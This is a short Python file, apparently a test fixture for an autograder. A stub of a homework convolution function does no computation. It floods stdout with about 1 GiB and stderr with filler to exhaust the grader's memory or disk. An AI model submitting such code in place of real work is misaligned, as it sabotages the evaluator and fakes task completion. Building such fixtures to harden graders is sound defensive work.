# Attack: 1 GiB on stdout (and some on stderr): fill the grader's memory or its disk with logs.
import os as _os


def conv_forward_naive(x, w, b, conv_param):
    line = (b"A" * 1023 + b"\n") * 1024
    _os.write(2, b"E" * 100_000)
    for _ in range(1024):
        _os.write(1, line)
    return None, None
